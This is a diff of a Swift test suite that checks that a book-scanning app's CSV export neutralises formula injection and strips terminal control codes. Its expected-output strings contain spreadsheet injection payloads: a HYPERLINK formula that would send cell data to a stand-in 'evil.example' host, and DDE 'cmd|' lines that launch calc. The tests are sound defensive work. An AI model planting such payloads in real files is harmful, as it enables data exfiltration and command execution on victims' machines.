@@ -17,6 +17,14 @@ struct CSVInjectionTests {
         "\tx=1", "\r=1", "=1\r\n=2",
     ]
 
+    /// Titles with terminal control codes (ESC, BEL, C1 CSI).
+    static let controlTitles = ["Emma\u{1B}[31m\u{07}", "\u{9B}31m=red"]
+
+    /// What each hostile and control title is in a CSV file: control characters (C0, C1, format) turned into spaces and the
+    /// ends trimmed, as the terminal shows it, then a formula's leading `'`.
+    static let writtenTitles = ["'=HYPERLINK(\"http://evil.example/?\"&A1,\"Click\")", "'+1+cmd|' /C calc'!A0", "'-2+3", "'@SUM(1+1)*cmd|' /C calc'!A0",
+        "x=1", "'=1", "'=1  =2", "Emma [31m", "31m=red"]
+
     @Test("a cell a spreadsheet would run gets a leading ' and quotes, and reads back as that text", arguments: hostileTitles)
     func neutralised(_ title: String) {
         let field = BookList.csvField(title)
@@ -36,8 +44,9 @@ struct CSVInjectionTests {
 
     /// A result with one book per hostile title, one row.
     static var hostileResult: ScanResult {
-        let count = hostileTitles.count
-        let spines = hostileTitles.enumerated().map { i, title in
+        let titles = hostileTitles + controlTitles
+        let count = titles.count
+        let spines = titles.enumerated().map { i, title in
             Spine(
                 index: i, row: 0, box: NormalizedBox(x: Double(i) / Double(count), y: 0.1, width: 0.5 / Double(count), height: 0.8),
                 confidence: 0.9, color: RGBColor(r: 1, g: 2, b: 3), pose: .upright, title: title, author: "@author")
@@ -62,7 +71,8 @@ struct CSVInjectionTests {
         #expect(batch.status == 0, "\(batch.stderr)")
         for file in [csv, root + "/.bookscan/books.csv"] {
             let rows = BookOutputTests.parseCSV(try String(contentsOfFile: file, encoding: .utf8)).dropFirst()
-            #expect(rows.map { $0[4] } == Self.hostileTitles.map { "'" + $0 }, "\(file)")
+            #expect(rows.map { $0[4] } == Self.writtenTitles, "\(file)")
+            #expect(!rows.joined().joined().unicodeScalars.contains { $0.properties.generalCategory == .control }, "\(file)")
             #expect(rows.allSatisfy { $0[5] == "'@author" }, "\(file)")
         }
         let batchRows = BookOutputTests.parseCSV(try String(contentsOfFile: root + "/.bookscan/books.csv", encoding: .utf8)).dropFirst()
